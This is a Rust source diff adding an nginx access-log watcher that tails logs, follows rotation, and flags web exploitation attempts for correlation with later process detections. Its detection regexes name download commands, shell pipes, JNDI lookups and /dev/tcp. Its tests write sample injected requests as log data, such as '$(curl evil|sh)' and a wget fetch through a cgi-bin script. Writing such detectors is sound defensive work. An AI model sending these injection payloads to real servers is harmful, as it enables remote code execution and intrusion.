@@ -0,0 +1,312 @@
+use chrono::{DateTime, Duration, Utc};
+use regex::Regex;
+use std::collections::{BTreeSet, HashMap, VecDeque};
+use std::fs::File;
+use std::io::{Read, Seek, SeekFrom};
+use std::os::unix::fs::MetadataExt;
+use std::path::PathBuf;
+use tracing::{debug, warn};
+
+use crate::config::NginxLogConfig;
+use crate::scoring::SignalCategory;
+
+/// Upper bound on bytes read from one log per poll, so a flood can't stall the loop
+const MAX_READ_PER_POLL: u64 = 4 * 1024 * 1024;
+
+/// Distinct (client, path) pairs tracked for POST bursts before the table is reset
+const MAX_BURST_KEYS: usize = 10_000;
+
+/// Suspicious request seen in an nginx access log
+#[derive(Debug, Clone, PartialEq)]
+pub struct ExploitAttempt {
+    pub timestamp: DateTime<Utc>,
+    pub client: String,
+    pub method: String,
+    pub path: String,
+    pub reason: String,
+}
+
+/// One parsed line of the combined log format
+#[derive(Debug, Clone, PartialEq)]
+pub struct AccessLogEntry {
+    pub client: String,
+    pub timestamp: DateTime<Utc>,
+    pub method: String,
+    pub target: String,
+}
+
+struct TailState {
+    path: PathBuf,
+    inode: Option<u64>,
+    offset: u64,
+}
+
+/// Tails nginx access logs (following rotation) and keeps a bounded
+/// window of exploitation attempts for correlation with later detections.
+pub struct NginxLogWatcher {
+    logs: Vec<TailState>,
+    attempts: VecDeque<ExploitAttempt>,
+    post_bursts: HashMap<(String, String), VecDeque<DateTime<Utc>>>,
+    config: NginxLogConfig,
+    payload_patterns: Vec<(Regex, &'static str)>,
+    line_regex: Regex,
+}
+
+impl NginxLogWatcher {
+    pub fn new(config: NginxLogConfig) -> Self {
+        let payload_patterns = vec![
+            (Regex::new(r"(?i)(wget|curl)(\s|%20|\+|\$\{IFS\})").unwrap(), "download command in request"),
+            (Regex::new(r"(?i)(\||%7c|;|%3b|\$\(|%24%28|`)\s*(sh|bash)\b").unwrap(), "shell pipe in request"),
+            (Regex::new(r"(?i)\$\{jndi:|%24%7bjndi").unwrap(), "JNDI lookup"),
+            (Regex::new(r"(?i)(eval-stdin\.php|/cgi-bin/.*\.(sh|cgi)|/\.env\b|/actuator/|/solr/admin|/vendor/phpunit)").unwrap(), "known-vulnerable endpoint"),
+            (Regex::new(r"(?i)(base64_decode|/dev/tcp/|chmod(\s|%20|\+)\+?x)").unwrap(), "payload staging"),
+        ];
+
+        let logs = config.access_logs.iter()
+            .map(|p| TailState { path: PathBuf::from(p), inode: None, offset: 0 })
+            .collect();
+
+        Self {
+            logs,
+            attempts: VecDeque::new(),
+            post_bursts: HashMap::new(),
+            config,
+            payload_patterns,
+            // 1.2.3.4 - - [10/Oct/2025:13:55:36 +0000] "POST /api HTTP/1.1" ...
+            line_regex: Regex::new(r#"^(\S+) \S+ \S+ \[([^\]]+)\] "(\S+) (\S+)[^"]*""#).unwrap(),
+        }
+    }
+
+    /// Read new lines from every log and return newly flagged attempts
+    pub fn poll(&mut self) -> Vec<ExploitAttempt> {
+        let mut new_attempts = Vec::new();
+        for idx in 0..self.logs.len() {
+            for line in self.read_new_lines(idx) {
+                if let Some(attempt) = self.inspect_line(&line) {
+                    new_attempts.push(attempt);
+                }
+            }
+        }
+
+        for attempt in &new_attempts {
+            self.attempts.push_back(attempt.clone());
+        }
+        while self.attempts.len() > self.config.max_tracked_attempts {
+            self.attempts.pop_front();
+        }
+        new_attempts
+    }
+
+    /// Attempts within the correlation window before `at`
+    pub fn recent_attempts(&self, at: DateTime<Utc>) -> Vec<&ExploitAttempt> {
+        let window = Duration::minutes(self.config.correlation_window_minutes as i64);
+        self.attempts.iter()
+            .filter(|a| a.timestamp <= at && at - a.timestamp <= window)
+            .collect()
+    }
+
+    /// Confidence boost for a detection shortly after web exploitation attempts, when
+    /// the process already shows one of `correlated_signals`
+    pub fn correlation_boost(&self, at: DateTime<Utc>, signals: &BTreeSet<SignalCategory>) -> f32 {
+        let related = self.config.correlated_signals.iter().any(|s| signals.contains(s));
+        if !related || self.recent_attempts(at).is_empty() {
+            0.0
+        } else {
+            self.config.confidence_boost
+        }
+    }
+
+    fn read_new_lines(&mut self, idx: usize) -> Vec<String> {
+        let state = &mut self.logs[idx];
+        let metadata = match std::fs::metadata(&state.path) {
+            Ok(m) => m,
+            Err(e) => {
+                debug!("Access log {:?} unavailable: {}", state.path, e);
+                return Vec::new();
+            }
+        };
+
+        match state.inode {
+            // First sight: only watch what is written from now on
+            None => {
+                state.inode = Some(metadata.ino());
+                state.offset = metadata.len();
+                return Vec::new();
+            }
+            // Rotated (new inode) or truncated (copytruncate): start over
+            Some(inode) if inode != metadata.ino() || metadata.len() < state.offset => {
+                debug!("Access log {:?} rotated, reading from start", state.path);
+                state.inode = Some(metadata.ino());
+                state.offset = 0;
+            }
+            Some(_) => {}
+        }
+
+        if metadata.len() == state.offset {
+            return Vec::new();
+        }
+
+        let mut buffer = Vec::new();
+        let read = File::open(&state.path).and_then(|mut file| {
+            file.seek(SeekFrom::Start(state.offset))?;
+            file.take(MAX_READ_PER_POLL).read_to_end(&mut buffer)
+        });
+        if let Err(e) = read {
+            warn!("Failed to read access log {:?}: {}", state.path, e);
+            return Vec::new();
+        }
+
+        // Only consume complete lines; a partial trailing line is re-read next poll
+        let complete = match buffer.iter().rposition(|&b| b == b'\n') {
+            Some(pos) => pos + 1,
+            None => return Vec::new(),
+        };
+        state.offset += complete as u64;
+
+        String::from_utf8_lossy(&buffer[..complete])
+            .lines()
+            .map(str::to_string)
+            .collect()
+    }
+
+    fn inspect_line(&mut self, line: &str) -> Option<ExploitAttempt> {
+        let entry = self.parse_line(line)?;
+        let (path, query) = entry.target.split_once('?').unwrap_or((&entry.target, ""));
+        let path = path.to_string();
+
+        let reason = self.payload_reason(&entry.target, query)
+            .or_else(|| self.post_burst_reason(&entry, &path))?;
+
+        Some(ExploitAttempt {
+            timestamp: entry.timestamp,
+            client: entry.client,
+            method: entry.method,
+            path,
+            reason,
+        })
+    }
+
+    pub fn parse_line(&self, line: &str) -> Option<AccessLogEntry> {
+        let caps = self.line_regex.captures(line)?;
+        let timestamp = DateTime::parse_from_str(&caps[2], "%d/%b/%Y:%H:%M:%S %z")
+            .map(|t| t.with_timezone(&Utc))
+            .unwrap_or_else(|_| Utc::now());
+        Some(AccessLogEntry {
+            client: caps[1].to_string(),
+            timestamp,
+            method: caps[3].to_string(),
+            target: caps[4].to_string(),
+        })
+    }
+
+    fn payload_reason(&self, target: &str, query: &str) -> Option<String> {
+        for (pattern, reason) in &self.payload_patterns {
+            if pattern.is_match(target) {
+                return Some(reason.to_string());
+            }
+        }
+
+        let encoded = query.matches('%').count();
+        if target.len() >= self.config.max_url_length || encoded * 3 >= self.config.max_url_length / 2 {
+            return Some(format!("long URL-encoded payload ({} bytes, {} escapes)", target.len(), encoded));
+        }
+        None
+    }
+
+    /// Repeated POSTs from one client to one path within a minute
+    fn post_burst_reason(&mut self, entry: &AccessLogEntry, path: &str) -> Option<String> {
+        if entry.method != "POST" {
+            return None;
+        }
+        if self.post_bursts.len() >= MAX_BURST_KEYS {
+            self.post_bursts.clear();
+        }
+
+        let hits = self.post_bursts
+            .entry((entry.client.clone(), path.to_string()))
+            .or_default();
+        hits.push_back(entry.timestamp);
+        while hits.front().is_some_and(|t| entry.timestamp - *t > Duration::seconds(60)) {
+            hits.pop_front();
+        }
+
+        // Report once when the burst threshold is crossed
+        if hits.len() == self.config.post_burst_threshold {
+            Some(format!("{} POSTs to {} within 60s", hits.len(), path))
+        } else {
+            None
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::io::Write;
+
+    fn log_line(client: &str, method: &str, target: &str) -> String {
+        format!(
+            "{} - - [{}] \"{} {} HTTP/1.1\" 200 12 \"-\" \"curl/8\"\n",
+            client,
+            Utc::now().format("%d/%b/%Y:%H:%M:%S %z"),
+            method,
+            target
+        )
+    }
+
+    fn config(path: &std::path::Path) -> NginxLogConfig {
+        NginxLogConfig {
+            enabled: true,
+            access_logs: vec![path.to_string_lossy().to_string()],
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn flags_payloads_and_post_bursts() {
+        let dir = tempfile::tempdir().unwrap();
+        let log = dir.path().join("access.log");
+        std::fs::write(&log, log_line("1.1.1.1", "GET", "/?x=$(curl%20evil|sh)")).unwrap();
+
+        let mut watcher = NginxLogWatcher::new(config(&log));
+        // Existing content is skipped on first poll
+        assert!(watcher.poll().is_empty());
+
+        let mut file = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
+        file.write_all(log_line("2.2.2.2", "GET", "/index.html").as_bytes()).unwrap();
+        file.write_all(log_line("6.6.6.6", "GET", "/cgi-bin/x.sh?cmd=wget%20http://x/m").as_bytes()).unwrap();
+        for _ in 0..watcher.config.post_burst_threshold {
+            file.write_all(log_line("7.7.7.7", "POST", "/api/upload").as_bytes()).unwrap();
+        }
+        // Partial line is held back until it is complete
+        file.write_all(b"9.9.9.9 - - [").unwrap();
+
+        let attempts = watcher.poll();
+        assert_eq!(attempts.len(), 2);
+        assert_eq!(attempts[0].client, "6.6.6.6");
+        assert_eq!(attempts[1].path, "/api/upload");
+        let staged = BTreeSet::from([SignalCategory::CpuAbuse, SignalCategory::SuspiciousLocation]);
+        assert!(watcher.correlation_boost(Utc::now(), &staged) > 0.0);
+        assert_eq!(watcher.correlation_boost(Utc::now() + Duration::hours(2), &staged), 0.0);
+        // Busy but otherwise ordinary processes aren't tied to the attempts
+        let busy = BTreeSet::from([SignalCategory::CpuAbuse]);
+        assert_eq!(watcher.correlation_boost(Utc::now(), &busy), 0.0);
+    }
+
+    #[test]
+    fn follows_rotation() {
+        let dir = tempfile::tempdir().unwrap();
+        let log = dir.path().join("access.log");
+        std::fs::write(&log, log_line("1.1.1.1", "GET", "/")).unwrap();
+        let mut watcher = NginxLogWatcher::new(config(&log));
+        watcher.poll();
+
+        // logrotate: move away and recreate
+        std::fs::rename(&log, dir.path().join("access.log.1")).unwrap();
+        std::fs::write(&log, log_line("6.6.6.6", "GET", "/.env")).unwrap();
+
+        let attempts = watcher.poll();
+        assert_eq!(attempts.len(), 1);
+        assert_eq!(attempts[0].reason, "known-vulnerable endpoint");
+    }
+}